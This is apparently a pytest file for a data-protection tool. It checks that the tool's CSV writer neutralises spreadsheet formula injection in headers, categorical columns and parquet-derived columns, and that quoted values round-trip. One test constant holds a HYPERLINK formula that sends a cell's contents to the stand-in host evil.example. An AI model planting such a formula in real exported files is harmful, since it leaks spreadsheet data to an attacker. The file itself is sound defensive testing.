"""Formula injection in CSV outputs (audit, issue 9): header cells, Categorical/Enum columns and
regex-shaped column names are neutralised like text values."""

from __future__ import annotations

import csv
from pathlib import Path

import polars as pl
import pytest

from ringfence.io.write import write_table

LINK = '=HYPERLINK("http://evil.example/?"&B2,"open")'


def _rows(path: Path) -> list[list[str]]:
    with open(path, encoding="utf-8", newline="") as fh:
        return list(csv.reader(fh))


def test_header_cells_are_neutralised(tmp_path: Path) -> None:
    out = tmp_path / "h.csv"
    write_table(pl.DataFrame({LINK: ["a"], "+phone": ["b"], "plain": ["c"]}), out)
    assert _rows(out)[0] == ["'" + LINK, "'+phone", "plain"]


def test_categorical_and_enum_cells_are_neutralised(tmp_path: Path) -> None:
    out = tmp_path / "c.csv"
    frame = pl.DataFrame(
        {
            "cat": pl.Series([LINK, "ok"], dtype=pl.Categorical),
            "enum": pl.Series([LINK, "ok"], dtype=pl.Enum([LINK, "ok"])),
        }
    )
    write_table(frame, out)
    assert _rows(out)[1] == ["'" + LINK, "'" + LINK]


def test_dictionary_parquet_column_is_neutralised_when_written_to_csv(tmp_path: Path) -> None:
    import pyarrow as pa
    import pyarrow.parquet as pq

    src = tmp_path / "d.parquet"
    pq.write_table(pa.table({"note": pa.array([LINK, "x"]).dictionary_encode()}), src)
    out = tmp_path / "d.csv"
    write_table(pl.read_parquet(src), out)
    assert _rows(out)[1] == ["'" + LINK]


def test_regex_shaped_column_names_select_only_themselves(tmp_path: Path) -> None:
    out = tmp_path / "r.csv"
    frame = pl.DataFrame({"^a.*$": ["=1+1"], "ab": [5], "a": ["x"]})
    write_table(frame, out)
    assert _rows(out) == [["^a.*$", "ab", "a"], ["'=1+1", "5", "x"]]


VALUES = ["-AB12345", "'=already quoted", "''+x", "=1+1", "@x", "-12.50", "'plain", "ok"]


def test_every_value_written_to_csv_reads_back_as_itself(tmp_path: Path) -> None:
    from ringfence.io.read import read_table

    out = tmp_path / "v.csv"
    write_table(pl.DataFrame({"v": VALUES, "-AB12345": ["h"] * len(VALUES)}), out)
    rows = _rows(out)
    assert rows[0] == ["v", "'-AB12345"]  # spreadsheet-safe in the file
    assert [r[0] for r in rows[1:]] == [
        "'-AB12345",
        "''=already quoted",
        "'''+x",
        "'=1+1",
        "'@x",
        "-12.50",
        "'plain",
        "ok",
    ]
    back = read_table(out)
    assert back.columns == ["v", "-AB12345"]
    assert back["v"].to_list() == VALUES


def test_protect_to_csv_then_reveal_gives_back_the_values(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    from ringfence.io.read import read_table
    from tests.cli.helpers import run_cli

    ws = tmp_path / "ws"
    assert run_cli(capsys, "init", str(ws))[0] == 0
    data = tmp_path / "in.parquet"
    frame = pl.DataFrame({"ref": VALUES, "email": [f"u{i}@example.com" for i in range(len(VALUES))]})
    frame.write_parquet(data)
    policy = tmp_path / "p.yaml"
    policy.write_text(
        "ringfence_policy: 1\nname: p\nunlisted: keep\ncolumns:\n  email: encrypt\n", encoding="utf-8"
    )
    protected, revealed = tmp_path / "p.csv", tmp_path / "r.parquet"
    code, _, err = run_cli(
        capsys, "-w", str(ws), "protect", str(data), "--policy", str(policy), "-o", str(protected)
    )
    assert code == 0, err
    assert "'-AB12345" in protected.read_text(encoding="utf-8")
    code, _, err = run_cli(
        capsys, "-w", str(ws), "reveal", str(protected), "--policy", str(policy), "--decrypt",
        "-o", str(revealed), "--reason", "ticket 9",
    )  # fmt: skip
    assert code == 0, err
    assert read_table(revealed).sort("email").equals(frame.sort("email"))
